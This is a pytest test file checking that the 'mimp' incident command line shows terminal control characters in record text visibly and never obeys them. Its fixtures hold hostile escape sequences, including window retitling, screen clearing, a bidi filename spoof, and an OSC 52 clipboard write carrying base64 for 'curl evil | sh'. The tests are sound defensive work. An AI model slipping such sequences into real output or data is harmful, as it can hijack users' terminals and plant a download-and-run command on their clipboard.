"""The command line shows record text's control characters, never obeys them (issue 9):
a title or a name holding a terminal escape (retitle the window, clear the screen,
write the clipboard with OSC 52) prints as visible `\\x1b...` in every command."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest

from mimp.adapters import prompting
from mimp.adapters.terminal_text import SafeStream, terminal_safe
from mimp.pipeline import CheckedSite, check_site
from tests.commander.commander_support import NOW, Mimp

INCIDENT = "2026-11-23-checkout-errors"
SERVICE = "online-checkout"
PERSON = "ben-okafor"
TEAM = "checkout"
# Window title, clear screen and home, clipboard write (base64 "curl evil | sh"), a C1 CSI.
RETITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
C1_CSI = "\x9b31m"
HOSTILE = RETITLE + CLEAR + CLIPBOARD + C1_CSI
# What a terminal would act on: C0 but newline and tab, DEL, C1.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_shown_not_obeyed(text: str) -> None:
    found = OBEYED.search(text)
    assert found is None, f"control {found[0]!r} printed raw in {text!r}"


def hostile_site(checked: CheckedSite) -> CheckedSite:
    """The records as the loader would give them, with escapes in fields of every kind
    (built in memory: `mimp check` may rightly refuse them in files, and the terminal
    must be safe regardless: records from an older version, fields it does not check)."""
    site = checked.site
    incident = site.incidents[INCIDENT]
    person = site.people[PERSON]
    team = site.teams[TEAM]
    site = replace(
        site,
        incidents={
            **site.incidents,
            INCIDENT: incident.model_copy(update={"title": f"Checkout {HOSTILE} down"}),
        },
        services={
            **site.services,
            SERVICE: site.services[SERVICE].model_copy(update={"name": f"Online {HOSTILE}"}),
        },
        people={
            **site.people,
            PERSON: person.model_copy(
                update={"name": f"Ben {HOSTILE}", "phone": f"+44 {CLEAR}7700", "chat": RETITLE}
            ),
        },
        teams={**site.teams, TEAM: team.model_copy(update={"channel": f"#inc-{CLIPBOARD}"})},
    )
    return replace(checked, site=site)


@pytest.fixture
def hostile_records(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every command that loads the records gets the hostile ones."""

    def load(root: Path, now: datetime | None = None, strict: bool = False) -> CheckedSite:
        return hostile_site(check_site(root, now, strict))

    monkeypatch.setattr(prompting, "check_site", load)


@pytest.mark.parametrize(
    "args",
    [
        ["status", "--now", NOW],
        ["contacts", SERVICE],
        ["contacts", INCIDENT],
    ],
)
def test_commands_print_escapes_visibly(
    hostile_records: None, mimp: Mimp, site_root: Path, args: list[str]
) -> None:
    result = mimp(*args, "--root", site_root)
    assert result.code == 0, result.err
    assert_shown_not_obeyed(result.out + result.err)
    assert "\\x1b]0;pwned\\x07" in result.out  # the text is there, in a visible form


def test_escapes_in_record_files_never_reach_the_terminal(mimp: Mimp, site_root: Path) -> None:
    """Straight from the files: whatever `mimp check` makes of them, no command's
    output carries a raw control character."""
    record = site_root / "data/incidents/2026" / f"{INCIDENT}.md"
    text = record.read_text("utf-8")
    yaml_escapes = "\\e]0;pwned\\a\\e[2J\\e]52;c;Y3VybA==\\a\\x9b31m"
    record.write_text(
        text.replace(
            "title: Customers cannot", f'title: "Customers {yaml_escapes} cannot', 1
        ).replace("on the website\nseverity", 'on the website"\nseverity', 1),
        "utf-8",
    )
    people = site_root / "data/registry/people.yaml"
    people.write_text(
        people.read_text("utf-8").replace("name: Ben Okafor", f'name: "Ben {yaml_escapes}"'),
        "utf-8",
    )
    assert "\\e]0;pwned" in record.read_text("utf-8")
    for args in (
        ["check", "--now", NOW],
        ["status", "--now", NOW],
        ["contacts", SERVICE],
        ["contacts", INCIDENT],
    ):
        result = mimp(*args, "--root", site_root)
        assert_shown_not_obeyed(result.out + result.err)


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        (RETITLE, "\\x1b]0;pwned\\x07"),
        ("a\tb\nc", "a\tb\nc"),
        ("\r\x7f\x00", "\\x0d\\x7f\\x00"),
        (C1_CSI, "\\x9b31m"),
        ("bidi \u202e gnp.exe", "bidi \\u202e gnp.exe"),
        ("Café – naïve ✓", "Café – naïve ✓"),
    ],
)
def test_terminal_safe(typed: str, shown: str) -> None:
    assert terminal_safe(typed) == shown


def test_safe_stream_writes_through_and_delegates() -> None:
    target = io.StringIO()
    stream = SafeStream(target)
    print("x", HOSTILE, file=stream)  # type: ignore[arg-type]
    stream.writelines(["\x1b", "\n"])
    stream.flush()
    assert_shown_not_obeyed(target.getvalue())
    assert target.getvalue().endswith("\\x1b\n")
